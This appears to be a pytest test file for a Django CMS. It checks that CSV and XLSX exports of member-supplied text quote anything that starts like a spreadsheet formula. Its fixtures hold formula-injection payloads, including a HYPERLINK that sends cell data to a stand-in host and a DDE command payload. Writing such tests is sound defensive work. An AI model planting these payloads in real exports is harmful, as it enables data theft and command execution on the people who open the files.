"""Spreadsheet exports (CSV and XLSX) of the CMS: member- or visitor-supplied text never
becomes a formula, and dates are local, to the minute. home.spreadsheets does it for every
export: knelpunten, consultation answers, contact form submissions."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.utils import timezone

from advocacy.models import Consultation, ConsultationAnswer, Knelpunt
from community.models import GroupPage
from home.spreadsheets import neutralise_formula
from tests.advocacy.test_knelpunten import advocacy_editor
from tests.factories import UserFactory, make_group, member_of, municipality

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&B2,"Klik")'
CMD = '=cmd|" /C calc"!A0'
# 16:44:19.863046 UTC on 4 December is 17:44 in Amsterdam (winter time).
UPDATED = datetime(2026, 12, 4, 16, 44, 19, 863046, tzinfo=UTC)


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1",
                                  "\uff1d1+1"])
def test_cells_that_start_like_a_formula_get_a_quote(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["Gemeente Utrecht", "", "1 = 1", "'al geciteerd", "2026-11-02"])
def test_other_cells_stay_as_they_are(text):
    assert neutralise_formula(text) == text


@pytest.fixture
def hostile(tree):
    utrecht = municipality("GM0344")
    anna = UserFactory(organisation=utrecht, first_name="Anna", last_name="de Vries")
    knelpunt = Knelpunt.objects.create(
        title=HYPERLINK, description="-2+3", regulation="@SUM(A1:A9)", reporter=anna,
        organisation=utrecht, response="+31 30 123 4567",
        created_at=timezone.make_aware(datetime(2026, 11, 2, 23, 30)),
    )
    group = make_group("Werkgroep buitengebied", kind=GroupPage.Kind.WORKING)
    consultation = Consultation.objects.create(
        group=group, title="-Ervaringen", question="?", closes_at=UPDATED)
    answer = ConsultationAnswer.objects.create(
        consultation=consultation, user=member_of(group, anna), answer=CMD,
        created_at=UPDATED, updated_at=UPDATED)
    return knelpunt, answer


def csv_cells(client, url):
    """{heading: cell} of a one-row CSV export."""
    response = client.get(url, {"export": "csv"})
    assert response.status_code == 200
    header, row = csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig")))
    return dict(zip(header, row, strict=True))


def xlsx_rows(client, url):
    from openpyxl import load_workbook

    response = client.get(url, {"export": "xlsx"})
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    sheet = load_workbook(io.BytesIO(content)).active
    return [[cell for cell in row] for row in sheet.iter_rows()]


def test_knelpunten_csv_neutralises_member_text(client, hostile):
    knelpunt, _answer = hostile
    client.force_login(advocacy_editor())
    cells = csv_cells(client, "/admin/advocacy/knelpunt/")
    assert cells["titel"] == "'" + HYPERLINK
    assert cells["wet of regel"] == "'@SUM(A1:A9)"
    assert cells["reactie"] == "'+31 30 123 4567"
    assert cells["id"] == str(knelpunt.pk) and cells["aantal organisaties dat het deelt"] == "0"
    assert cells["gemeld op"] == "2026-11-02"  # local date, not the UTC one


def test_consultation_answers_csv_neutralises_and_writes_local_minutes(client, hostile):
    client.force_login(advocacy_editor())
    cells = csv_cells(client, "/admin/advocacy/consultationanswer/")
    assert cells["antwoord"] == "'" + CMD
    assert cells["consultatie"] == "'-Ervaringen"
    assert cells["bijgewerkt op"] == "2026-12-04 17:44"


def test_xlsx_keeps_text_as_text_without_quote_and_dates_local(client, hostile):
    client.force_login(advocacy_editor())
    header, row = xlsx_rows(client, "/admin/advocacy/knelpunt/")
    title = row[[c.value for c in header].index("titel")]
    assert title.value == HYPERLINK and title.data_type == "s"
    header, row = xlsx_rows(client, "/admin/advocacy/consultationanswer/")
    cells = {h.value: c for h, c in zip(header, row, strict=True)}
    assert cells["antwoord"].value == CMD and cells["antwoord"].data_type == "s"
    assert cells["bijgewerkt op"].value == datetime(2026, 12, 4, 17, 44)
    assert cells["bijgewerkt op"].number_format == "yyyy-mm-dd hh:mm"


def test_contact_form_submissions_csv_is_neutralised_too(client, db):
    from django.core.management import call_command
    from wagtail.contrib.forms.models import FormSubmission

    from home.models import ContactPage
    from tests.factories import make_editor

    call_command("seed_demo", verbosity=0)
    contact = ContactPage.objects.get()
    response = client.post(contact.url, {
        "uw_naam": "=HYPERLINK(\"https://evil.example\")", "uw_e_mailadres": "piet@utrecht.nl",
        "organisatie": "@SUM(A1)", "uw_vraag_of_opmerking": "+cmd",
    })
    assert response.status_code == 200
    FormSubmission.objects.update(submit_time=UPDATED)
    client.force_login(make_editor(email="beheer@vng.nl", is_superuser=True))
    cells = csv_cells(client, f"/admin/forms/submissions/{contact.pk}/")
    assert cells["Uw naam"] == "'=HYPERLINK(\"https://evil.example\")"
    assert cells["Organisatie"] == "'@SUM(A1)" and cells["Uw vraag of opmerking"] == "'+cmd"
    assert "2026-12-04 17:44" in cells.values()
